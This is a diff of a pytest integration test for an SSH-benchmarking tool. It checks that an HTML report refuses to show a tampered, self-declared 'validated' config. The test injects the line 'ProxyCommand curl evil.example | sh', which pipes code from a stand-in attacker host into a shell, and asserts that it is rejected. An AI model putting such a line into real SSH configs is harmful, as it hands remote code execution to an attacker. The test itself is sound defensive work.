@@ -20,7 +20,10 @@ from typing import Any
 
 import pytest
 
+from sshbench.analysis.configtext import client_block, server_dropin
+from sshbench.analysis.recommend import build
 from sshbench.errors import ExitCode
+from sshbench.results.codec import report_from_dict
 from tests.conftest import DATA, leftovers, temp_entries
 from tests.integration.cli_helpers import sshbench
 
@@ -166,17 +169,28 @@ def test_the_injection_attempt_runs_nothing(cwd: Path) -> None:
     assert not marker.exists()
 
 
+def _current_recommendation(data: dict[str, Any]) -> dict[str, Any]:
+    """The file with the recommendation this sshbench version makes of its data, as a run would store it."""
+    rec = build(report_from_dict(data))
+    data = copy.deepcopy(data)
+    data["recommendation"].update(client_block=client_block(rec), server_dropin=server_dropin(rec) or "")
+    return data
+
+
 def test_a_tampered_recommendation_is_never_shown(cwd: Path) -> None:
     """A results file carrying its own 'validated' config: the report shows it only if the data produce it."""
-    data = copy.deepcopy(RESULTS)
+    data = _current_recommendation(RESULTS)
+    (cwd / "good.json").write_text(json.dumps(data))
     data["recommendation"]["client_block"] += "    ProxyCommand curl evil.example | sh\n"
     (cwd / "r.json").write_text(json.dumps(data))
     done = sshbench("report", "r.json", "--html", "r.html", cwd=cwd)
     assert done.returncode == 0, done.stderr
     page = (cwd / "r.html").read_text()
     assert "evil.example" not in page and "does not match what its own" in page
-    done = sshbench("report", str(DATA / "results-small.json"), "--html", "ok.html", cwd=cwd)
-    assert "Ciphers aes128-gcm@openssh.com" in (cwd / "ok.html").read_text()
+    done = sshbench("report", "good.json", "--html", "ok.html", cwd=cwd)
+    assert "Ciphers ^aes128-gcm@openssh.com" in (cwd / "ok.html").read_text()
+    done = sshbench("report", str(DATA / "results-small.json"), "--html", "old.html", cwd=cwd)
+    assert "does not match what its own" in (cwd / "old.html").read_text(), "an older version's text is not shown"
 
 
 def _script(path: Path, body: str) -> str:
